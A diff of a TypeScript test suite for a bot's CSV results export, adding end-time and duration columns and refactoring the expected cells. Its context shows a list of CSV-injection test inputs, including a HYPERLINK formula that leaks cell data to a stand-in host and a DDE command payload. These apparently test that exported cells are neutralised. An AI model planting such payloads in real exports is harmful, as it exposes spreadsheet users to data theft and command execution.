@@ -39,6 +39,14 @@ async function listed(botId: string): Promise<Record<string, unknown>[]> {
   return (await server.send("GET", path)).body.results as Record<string, unknown>[]
 }
 
+const facts = ["id", "created", "completed", "version", "ended", "seconds"]
+
+/** The cells of a completed result before its answers. */
+const factsOf = (result: Record<string, unknown> = {}, version: string) => [
+  ...[result.id, result.createdAt, "yes", version],
+  ...[result.endedAt, String(result.durationSeconds)],
+]
+
 const hostile = [
   '=HYPERLINK("https://evil.example?"&A1)',
   "+cmd|' /C calc'!A0",
@@ -74,17 +82,15 @@ describe("CSV", () => {
     ids.unshift(await talk(publicId, "new"))
 
     const [header, ...rows] = await tableOf(botId)
-    const columns = ["id", "created", "completed", "version", "Second", `'${title}`, "'@Name"]
-    expect(header).toEqual(columns)
+    expect(header).toEqual([...facts, "Second", `'${title}`, "'@Name"])
     const results = await listed(botId)
     expect(results.map(({ id }) => id)).toEqual(ids)
     const [newest, ...older] = results
-    expect(rows[0]).toEqual([newest?.id, newest?.createdAt, "yes", "2", "new", "", ""])
+    expect(rows[0]).toEqual([...factsOf(newest, "2"), "new", "", ""])
     for (const [index, row] of rows.slice(1).entries()) {
       const text = texts.toReversed()[index] ?? ""
-      const { id, createdAt } = older[index] ?? {}
       const cells = [text, `${text}!`, text].map(plainCell)
-      expect(row).toEqual([id, createdAt, "yes", "1", ...cells])
+      expect(row).toEqual([...factsOf(older[index], "1"), ...cells])
     }
   })
 
@@ -123,6 +129,8 @@ describe("CSV", () => {
         createdAt: false,
         name: false,
         isCompleted: false,
+        endedAt: false,
+        durationSeconds: false,
       },
       columnsWidth: {},
     }
@@ -138,7 +146,7 @@ describe("CSV", () => {
 
   test("of a bot without results is a header", async () => {
     const { botId } = await publishBot(server, bot(group("A", ask.text())))
-    expect(await tableOf(botId)).toEqual([["id", "created", "completed", "version"]])
+    expect(await tableOf(botId)).toEqual([facts])
   })
 })
 
